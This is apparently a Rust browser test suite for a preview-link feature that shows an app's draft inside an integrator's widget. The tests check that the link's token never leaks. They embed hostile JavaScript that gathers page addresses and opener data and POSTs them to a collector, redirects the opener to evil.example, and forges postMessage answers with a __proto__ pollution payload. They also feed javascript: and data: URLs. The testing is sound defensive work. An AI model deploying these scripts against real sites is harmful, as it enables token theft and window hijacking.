//! A preview link, from the console to the widget in an integrator's own page, and attacks on its way.

use std::collections::BTreeSet;

use c2c_harness::{App, Context as _, Cx, DEADLINE, Method, Result, Tests, request};
use serde_json::{Value, json};

use crate::steps::{all_heard, enter_widget, heard};

pub(crate) const TESTS: Tests = &[
    ("a_draft_is_shared_and_seen_on_the_demo_page", &a_draft_is_shared_and_seen_on_the_demo_page),
    ("an_integrators_page_shows_the_draft", &an_integrators_page_shows_the_draft),
    (
        "a_draft_of_an_app_that_keeps_its_jar_is_shown",
        &a_draft_of_an_app_that_keeps_its_jar_is_shown,
    ),
    ("no_script_finds_the_token", &no_script_finds_the_token),
    ("a_foreign_opener_gets_no_question", &a_foreign_opener_gets_no_question),
    ("the_page_answers_widgets_of_its_app_only", &the_page_answers_widgets_of_its_app_only),
    ("only_an_answer_of_the_right_form_counts", &only_an_answer_of_the_right_form_counts),
    ("the_page_says_why_there_is_no_preview", &the_page_says_why_there_is_no_preview),
    ("a_page_that_isolates_itself_is_explained", &a_page_that_isolates_itself_is_explained),
];

/// Code that reports itself to the parent page, and says all addresses that it can find to the collector. It also
/// asks the page of the link, and tries to lead it away.
fn draft(cx: &Cx) -> String {
    let hit = cx.collector.hit_url("draft");
    format!(
        "<script>c2c.emit('draft');
        top.opener?.postMessage({{ c2c: 'preview?', app: document.currentScript.dataset.app }}, '*');
        for (const leave of [() => (top.opener.location = 'https://evil.example/'), () => top.opener.location.replace('about:blank'), () => top.opener.close()]) {{
          try {{ leave(); }} catch {{}}
        }}
        const body = JSON.stringify({ADDRESSES});
        fetch('{hit}', {{ method: 'POST', body }});</script>"
    )
}

/// The addresses that a script can find.
const ADDRESSES: &str = "[
    location.href, document.URL, document.baseURI, document.referrer, `${window.name}`,
    ...performance.getEntries().map(({ name }) => name),
    ...[...document.querySelectorAll('[src], [href]')].map((element) => element.outerHTML),
    ...[() => top.opener.location.href, () => opener.location.href, () => parent.location.href, () => top.opener.document.body.outerHTML]
      .map((read) => { try { return `${read()}`; } catch (error) { return error.name; } }),
  ]";

/// How often the page of a link has asked for an address.
const CALLS: &str =
    "performance.getEntriesByType('resource').filter(({ name }) => name.endsWith('/open')).length";

const LIVE: &str = "<script>c2c.emit('live')</script>";

/// An app with a live revision and a draft.
async fn app(cx: &Cx) -> Result<&App> {
    let app = cx.app().await?;
    app.publish(LIVE, "").await?;
    let code = draft(cx).replace("document.currentScript.dataset.app", &format!("{:?}", app.id));
    app.save_draft(&code, "").await?;
    Ok(app)
}

fn links(app: &App) -> String {
    format!("/api/apps/{}/preview-links", app.id)
}

/// Makes a link as the console does, and gives its address.
async fn make(cx: &Cx, app: &App) -> Result<String> {
    let server = cx.server().await?;
    let made = server.api(Method::POST, &links(app), Some(&json!({"hours": 1}))).await?;
    Ok(made.expect(201)?.json()?["url"].as_str().context("a URL")?.to_owned())
}

fn token(url: &str) -> &str {
    url.split_once('#').map_or(url, |(_, token)| token)
}

/// Opens the page of a link.
async fn open_link(cx: &Cx, url: &str) -> Result<()> {
    // A change of the fragment only would be no navigation.
    cx.browser.goto("about:blank").await?;
    cx.browser.goto(url).await?;
    cx.browser.wait_for("document.querySelector('#link').checkVisibility()", DEADLINE).await?;
    Ok(())
}

/// Presses the button for an origin, with another path than the one that is there.
async fn press_open(cx: &Cx, origin: &str, path: Option<&str>) -> Result<()> {
    let button = format!("[aria-label=\"Open the preview on {origin}\"]");
    if let Some(path) = path {
        let set = format!(
            "document.querySelector({button:?}).closest('form').querySelector('input').value = {path:?}"
        );
        cx.browser.run(&set, &[]).await?;
    }
    cx.browser.click(&button).await
}

/// The same, and makes the new window the current one. Returns the window of the link.
async fn open_page(cx: &Cx, origin: &str, path: Option<&str>) -> Result<String> {
    let before: BTreeSet<String> = cx.browser.windows().await?.into_iter().collect();
    let own = cx.browser.command(Method::GET, "window", None).await?;
    let own = own.as_str().context("a window")?.to_owned();
    press_open(cx, origin, path).await?;
    let end = tokio::time::Instant::now() + DEADLINE;
    loop {
        let now = cx.browser.windows().await?;
        if let Some(new) = now.iter().find(|window| !before.contains(*window)) {
            cx.browser.switch_to_window(new).await?;
            return Ok(own);
        }
        assert!(tokio::time::Instant::now() < end, "no window was opened");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

async fn state(cx: &Cx, kind: &str, part: &str) -> Result<()> {
    let state = format!(
        "document.querySelector('#state[data-kind={kind}]').textContent.includes({part:?})"
    );
    cx.browser.wait_for(&state, DEADLINE).await.map(drop)
}

/// The mark in the widget, from the page above it.
async fn mark(cx: &Cx) -> Result<Value> {
    enter_widget(cx).await?;
    let mark =
        cx.browser.eval("document.querySelector('.preview-mark')?.textContent ?? null").await;
    cx.browser.enter_top().await?;
    mark
}

/// Asserts that none of the draft's reports so far tells the token.
fn assert_unknown(cx: &Cx, token: &str) {
    for request in cx.collector.requests() {
        assert!(!request.text().contains(token), "{}", request.text());
        assert!(!format!("{request:?}").contains(token), "{request:?}");
    }
}

async fn a_draft_of_an_app_that_keeps_its_jar_is_shown(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    app.configure(&[], "kept").await?;
    open_link(cx, &make(cx, app).await?).await?;
    open_page(cx, &cx.server().await?.parent, None).await?;
    heard(cx, "custom:draft").await?;
    assert_eq!(mark(cx).await?, "Preview of a draft");
    Ok(())
}

async fn a_draft_is_shared_and_seen_on_the_demo_page(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let server = cx.server().await?;
    // Make a link in the console.
    crate::console::open(cx, app).await?;
    cx.browser.click("#open-share").await?;
    cx.browser.click("#share-form button").await?;
    let url = cx.browser.wait_for("document.querySelector('#share-url').value", DEADLINE).await?;
    let url = url.as_str().context("a URL")?.to_owned();
    cx.browser
        .wait_for("document.querySelectorAll('#share-links li').length === 1", DEADLINE)
        .await?;
    cx.browser.click("#share .actions button").await?;
    cx.browser.wait_for("document.querySelector('#share-url').value === ''", DEADLINE).await?;
    let kept = "return document.documentElement.outerHTML.includes(arguments[0])";
    assert_eq!(cx.browser.run(kept, &[json!(token(&url))]).await?, false);
    cx.collector.forget();

    // Open it: the address forgets the token.
    open_link(cx, &url).await?;
    let address = format!("{}/preview-link", server.widget);
    assert_eq!(cx.browser.url().await?, address);
    let link = open_page(cx, &server.parent, None).await?;
    heard(cx, "custom:draft").await?;
    assert_eq!(mark(cx).await?, "Preview of a draft");
    assert!(!all_heard(cx).await?.contains(&"custom:live".to_owned()));
    cx.collector.hit("draft", DEADLINE).await?;
    // The frame's address is used up.
    enter_widget(cx).await?;
    let src = cx.browser.eval("document.querySelector('iframe').src").await?;
    let src = src.as_str().context("an address")?.to_owned();
    let in_frame = [("sec-fetch-dest", "iframe")];
    request(Method::GET, &src, &in_frame, "").await?.expect(404)?;
    assert!(src.starts_with(&format!("{}/preview-link/", server.sandbox)), "{src}");
    assert!(!src.contains(token(&url)));
    cx.browser.enter_top().await?;
    // Another load of the page gets the present draft by another address.
    app.save_draft("<script>c2c.emit('later')</script>", "").await?;
    cx.browser.reload().await?;
    heard(cx, "custom:later").await?;
    assert_eq!(mark(cx).await?, "Preview of a draft");

    // A visitor gets what is published.
    let opened = cx.browser.command(Method::GET, "window", None).await?;
    cx.browser.new_tab().await?;
    cx.browser.goto(&app.parent_url("")).await?;
    heard(cx, "custom:live").await?;
    assert_eq!(mark(cx).await?, Value::Null);

    // Revoke it in the console.
    crate::console::open(cx, app).await?;
    cx.browser.click("#open-share").await?;
    cx.browser.click("#share-links button").await?;
    let revoked =
        "document.querySelector('#share-message').textContent === 'The link no longer works.'";
    cx.browser.wait_for(revoked, DEADLINE).await?;
    cx.browser.wait_for("!document.querySelector('#share-none').hidden", DEADLINE).await?;
    cx.browser.switch_to_window(opened.as_str().context("a window")?).await?;
    cx.browser.reload().await?;
    heard(cx, "custom:live").await?;
    assert_eq!(mark(cx).await?, Value::Null);
    cx.browser.switch_to_window(&link).await?;
    state(cx, "bad", "this preview link is not valid").await?;
    cx.browser.goto("about:blank").await?;
    cx.browser.goto(&url).await?;
    let invalid = "document.querySelector('#invalid:not([hidden]) #problem').textContent.startsWith('This preview link is not valid')";
    cx.browser.wait_for(invalid, DEADLINE).await?;
    assert_eq!(cx.browser.url().await?, address);

    let output = server.output().join("\n");
    assert!(!output.contains(token(&url)), "{output}");
    assert_unknown(cx, token(&url));
    // The history says so, and not how to open it.
    cx.browser.goto(&format!("{}/apps/{}/history", server.console, app.id)).await?;
    let trail =
        cx.browser.wait_for("document.querySelector('#audit').textContent", DEADLINE).await?;
    let trail = trail.as_str().unwrap_or_default();
    assert!(
        trail.contains("made a preview link") && trail.contains("revoked a preview link"),
        "{trail}"
    );
    Ok(())
}

/// Serves an integrator's page with the widget of an app, and a script.
async fn integrator(cx: &Cx, app: &App, script: &str, headers: &[(&str, &str)]) -> Result<String> {
    app.configure(&[&cx.collector.origin()], "visit").await?;
    let page = format!(
        "<!doctype html><title>Shop</title><script>{script}</script>
         <iframe id=widget src='{}'></iframe>",
        app.widget_url("orderId=A-1")
    );
    Ok(cx.collector.page("/shop", page, headers))
}

async fn an_integrators_page_shows_the_draft(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let page = integrator(cx, app, "", &[]).await?;
    let url = make(cx, app).await?;
    open_link(cx, &url).await?;
    let origin = cx.collector.origin();
    // A whole address will do, too.
    let link = open_page(cx, &origin, Some(&format!("{page}?from=mail"))).await?;
    cx.collector.hit("draft", DEADLINE).await?;
    assert_eq!(cx.browser.url().await?, format!("{page}?from=mail"));
    assert_eq!(mark(cx).await?, "Preview of a draft");
    cx.browser.switch_to_window(&link).await?;
    state(cx, "good", "The widget got the draft").await?;
    // Nothing stays after the page: the same page without the link is as for all visitors.
    cx.browser.new_tab().await?;
    cx.browser.goto(&page).await?;
    assert_eq!(mark(cx).await?, Value::Null);
    Ok(())
}

/// A hostile page reads all that it can, and sends answers of its own to the widget, before and after the right
/// ones.
async fn no_script_finds_the_token(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let hit = cx.collector.hit_url("page");
    let evil = format!("{}/s/{}", cx.server().await?.sandbox, app.id);
    let script = format!(
        "const found = [];
         addEventListener('message', ({{ data, origin }}) => found.push(`${{origin}} ${{JSON.stringify(data)}}`));
         const inside = (view) => (view?.length > 0 ? view[0] : null);
         let forged = 0;
         const forge = () => {{
           for (const frame of [inside(window), inside(inside(window)), opener, inside(opener)]) {{
             if (!frame) continue;
             forged += 1;
             const answers = [
               {{ c2c: 'preview', app: '{app}', src: '{evil}?forged' }},
               {{ c2c: 'preview-wait' }},
               {{ c2c: 'preview?', app: '{app}' }},
               JSON.parse('{{\"__proto__\": {{\"c2c\": \"preview\", \"app\": \"{app}\", \"src\": \"{evil}?forged\"}}}}'),
               null, 'preview', 7,
             ];
             for (const answer of answers) frame.postMessage(answer, '*');
           }}
         }};
         const forging = setInterval(forge, 1);
         setTimeout(() => {{
           clearInterval(forging);
           const body = JSON.stringify([`forged ${{forged > 100}}`, ...found, ...{ADDRESSES}]);
           fetch('{hit}', {{ method: 'POST', body }});
         }}, 3000);",
        app = app.id,
    );
    let page = integrator(cx, app, &script, &[("referrer-policy", "unsafe-url")]).await?;
    let url = make(cx, app).await?;
    open_link(cx, &url).await?;
    let origin = cx.collector.origin();
    let link = open_page(cx, &origin, Some(&page)).await?;
    let seen = cx.collector.hit("draft", DEADLINE).await?;
    let read = cx.collector.hit("page", DEADLINE).await?;
    assert_eq!(mark(cx).await?, "Preview of a draft");
    assert_unknown(cx, token(&url));
    // The reports can tell: they have the addresses that the scripts do know.
    let (seen, read) = (seen.json()?, read.json()?);
    let sandbox = format!("{}/preview-link/", cx.server().await?.sandbox);
    assert!(seen[0].as_str().is_some_and(|own| own.starts_with(&sandbox)), "{seen}");
    assert!(read.as_array().context("a list")?.contains(&json!(page)), "{read}");
    assert_eq!(read[0], "forged true");
    // The page got none of the messages between the widget and the page of the link.
    let messages = read.to_string();
    assert!(
        !messages.contains("preview-link/") && !messages.contains("preview?\\\""),
        "{messages}"
    );
    assert!(messages.contains("SecurityError"), "the opener can be read: {messages}");
    // The draft's only address is used up.
    let own = seen[0].as_str().context("an address")?;
    request(Method::GET, own, &[("sec-fetch-dest", "iframe")], "").await?.expect(404)?;
    // Only the question of the widget was answered.
    cx.browser.switch_to_window(&link).await?;
    state(cx, "good", "The widget got the draft").await?;
    assert_eq!(cx.browser.eval(CALLS).await?, 1);
    Ok(())
}

/// A page of another origin opens the integrator's page, and sends answers of its own.
async fn a_foreign_opener_gets_no_question(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let server = cx.server().await?;
    let evil = format!("{}/s/{}", server.sandbox, app.id);
    let script = format!(
        "<button id=open>Open</button><script>
         var heard = [];
         addEventListener('message', ({{ data, origin }}) => heard.push([origin, data]));
         document.querySelector('#open').onclick = () => {{
           const view = open('{}');
           setInterval(() => {{
             for (const answer of [{{ c2c: 'preview-wait' }}, {{ c2c: 'preview', app: '{app}', src: '{evil}?forged' }}]) {{
               view.frames[0]?.postMessage(answer, '*');
             }}
           }}, 1);
         }};</script>",
        app.parent_url(""),
        app = app.id,
    );
    let page = cx.collector.page("/foreign", script, &[]);
    cx.browser.goto(&page).await?;
    let own = cx.browser.windows().await?;
    cx.browser.click("#open").await?;
    let end = tokio::time::Instant::now() + DEADLINE;
    let opened = loop {
        let now = cx.browser.windows().await?;
        if let Some(new) = now.into_iter().find(|window| !own.contains(window)) {
            break new;
        }
        assert!(tokio::time::Instant::now() < end, "no window was opened");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    cx.browser.switch_to_window(&opened).await?;
    // It waits for an answer in vain, and then has the published code, like any visitor.
    heard(cx, "custom:live").await?;
    assert_eq!(mark(cx).await?, Value::Null);
    enter_widget(cx).await?;
    assert_eq!(cx.browser.eval("window.top.opener !== null").await?, true);
    let src = cx.browser.eval("document.querySelector('iframe').src").await?;
    assert!(!src.to_string().contains("forged"), "{src}");
    // A visitor whose window was opened by such a page can call while the widget waits.
    cx.browser.enter_top().await?;
    cx.browser.reload().await?;
    crate::steps::press(cx, "#call").await?;
    heard(cx, "call_started").await?;
    cx.browser.switch_to_window(&own[0]).await?;
    assert_eq!(cx.browser.eval("heard").await?, json!([]));
    Ok(())
}

async fn the_page_answers_widgets_of_its_app_only(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let server = cx.server().await?;
    let other = server.create_app("Other").await?;
    let live = cx.collector.hit_url("other-live");
    other.publish(&format!("<script>fetch('{live}')</script>"), "").await?;
    other.save_draft(&draft(cx), "").await?;
    app.configure(&[&cx.collector.origin()], "visit").await?;
    let page = integrator(cx, &other, "", &[]).await?;
    let url = make(cx, app).await?;
    open_link(cx, &url).await?;
    let link = open_page(cx, &cx.collector.origin(), Some(&page)).await?;
    cx.collector.hit("other-live", DEADLINE).await?;
    assert_eq!(mark(cx).await?, Value::Null);
    assert_eq!(cx.collector.count("draft"), 0);

    // Questions of other windows of the widget's origin, and of other origins, get no answer: there is none
    // before a later one of the right kind.
    cx.browser.switch_to_window(&link).await?;
    let ask = format!(
        "postMessage({{ c2c: 'preview?', app: {:?} }}, location.origin);
         dispatchEvent(new MessageEvent('message', {{ data: {{ c2c: 'preview?', app: {:?} }}, origin: location.origin, source: window }}));
         return new Promise((resolve) => setTimeout(resolve, 200));",
        app.id, app.id
    );
    cx.browser.run(&ask, &[]).await?;
    assert_eq!(cx.browser.eval(CALLS).await?, 0);
    open_page(cx, &server.parent, None).await?;
    heard(cx, "custom:draft").await?;
    cx.browser.switch_to_window(&link).await?;
    assert_eq!(cx.browser.eval(CALLS).await?, 1);
    Ok(())
}

async fn the_page_says_why_there_is_no_preview(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let server = cx.server().await?;
    let url = make(cx, app).await?;
    open_link(cx, &url).await?;
    let windows = cx.browser.windows().await?.len();
    for path in [
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "data:text/html,x",
        "https://[",
    ] {
        press_open(cx, &server.parent, Some(path)).await?;
        state(cx, "bad", "The address must be one of").await?;
        cx.browser.run("document.querySelector('#state').textContent = ''", &[]).await?;
    }
    assert_eq!(cx.browser.windows().await?.len(), windows);
    // A draft that cannot be compiled.
    app.save_draft("<p>\n<script>", "").await?;
    let link = open_page(cx, &server.parent, Some(&format!("/p/{}", app.id))).await?;
    heard(cx, "custom:live").await?;
    assert_eq!(mark(cx).await?, Value::Null);
    cx.browser.switch_to_window(&link).await?;
    state(cx, "bad", "the draft has an error in Head HTML, line 2").await?;
    // A page without the widget.
    open_page(cx, &server.parent, Some("/nothing-here")).await?;
    cx.browser.switch_to_window(&link).await?;
    state(cx, "bad", "No widget of this app has asked").await?;
    // Parts of an address, and none.
    for part in [format!("{}/preview-link", server.widget), url[..url.len() - 1].to_owned()] {
        cx.browser.goto("about:blank").await?;
        cx.browser.goto(&part).await?;
        let said = "document.querySelector('#invalid:not([hidden]) #problem').textContent.includes('Open the link that you were given again')";
        cx.browser.wait_for(said, DEADLINE).await?;
        assert_eq!(cx.browser.url().await?, format!("{}/preview-link", server.widget));
    }
    Ok(())
}

async fn a_page_that_isolates_itself_is_explained(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let isolated = [("cross-origin-opener-policy", "same-origin")];
    let page = integrator(cx, app, "", &isolated).await?;
    let url = make(cx, app).await?;
    open_link(cx, &url).await?;
    let link = open_page(cx, &cx.collector.origin(), Some(&page)).await?;
    assert_eq!(mark(cx).await?, Value::Null);
    cx.browser.switch_to_window(&link).await?;
    state(cx, "bad", "Cross-Origin-Opener-Policy").await?;
    assert_eq!(cx.collector.count("draft"), 0);
    Ok(())
}

/// The widget's side alone: its own window is the opener, which gives the answers of a test.
async fn only_an_answer_of_the_right_form_counts(cx: &Cx) -> Result<()> {
    let app = app(cx).await?;
    let server = cx.server().await?;
    let (sandbox, widget) = (&server.sandbox, &server.widget);
    let right = format!("{sandbox}/preview-link/1");
    cx.browser.goto(&app.widget_url("")).await?;
    let check = "const [answers, sandbox, sender] = arguments;
        return import('/linked.js').then(async ({ draftFrom }) => {
          const opener = sender === 'self' ? window : frames[0];
          const draft = draftFrom(opener, 'shop', `${sandbox}/s/shop`);
          for (const answer of answers) postMessage(JSON.parse(answer), location.origin);
          return draft;
        });";
    let draft = async |answers: &[String], sender: &str| {
        cx.browser.run(check, &[json!(answers), json!(sandbox), json!(sender)]).await
    };
    let answer = |src: &str| json!({"c2c": "preview", "app": "shop", "src": src}).to_string();
    assert_eq!(draft(&[answer(&right)], "self").await?, right);
    let wait = json!({"c2c": "preview-wait"}).to_string();
    assert_eq!(draft(&[wait, answer(&right)], "self").await?, right);
    // From another window than the opener.
    assert_eq!(draft(&[answer(&right)], "frame").await?, Value::Null);
    let port = sandbox.rsplit_once(':').context("a port")?.0;
    for src in [
        "https://evil.example/",
        "javascript:alert(1)",
        "data:text/html,x",
        "",
        "/preview-link/1",
        &format!("{widget}/preview-link/1"),
        &format!("{port}:1/preview-link/1"),
        &format!("{sandbox}@evil.example/"),
        &format!("blob:{sandbox}/1"),
    ] {
        assert_eq!(draft(&[answer(src)], "self").await?, Value::Null, "{src}");
    }
    for other in [
        json!({"c2c": "preview", "app": "shop", "src": null}),
        json!({"c2c": "preview", "app": "shop", "src": [right]}),
        json!({"c2c": "preview", "app": "shop", "src": {"href": right}}),
    ] {
        assert_eq!(draft(&[other.to_string()], "self").await?, Value::Null, "{other}");
    }
    // These are no answers at all: the right one comes after them.
    let others = [
        json!({"c2c": "preview", "app": "other", "src": format!("{sandbox}/preview-link/2")}),
        json!({"c2c": "preview", "src": format!("{sandbox}/preview-link/2")}),
        json!({"c2c": ["preview"], "app": "shop", "src": right}),
        json!(null),
        json!("preview"),
        json!(1),
    ];
    let polluted = format!("{{\"__proto__\": {}}}", answer(&right));
    let mut answers: Vec<String> = others.iter().map(Value::to_string).collect();
    answers.push(polluted.clone());
    answers.push(answer(&right));
    assert_eq!(draft(&answers, "self").await?, right);
    answers.pop();
    assert_eq!(draft(&answers, "self").await?, Value::Null);
    assert_eq!(cx.browser.eval("({}).c2c ?? null").await?, Value::Null);
    Ok(())
}
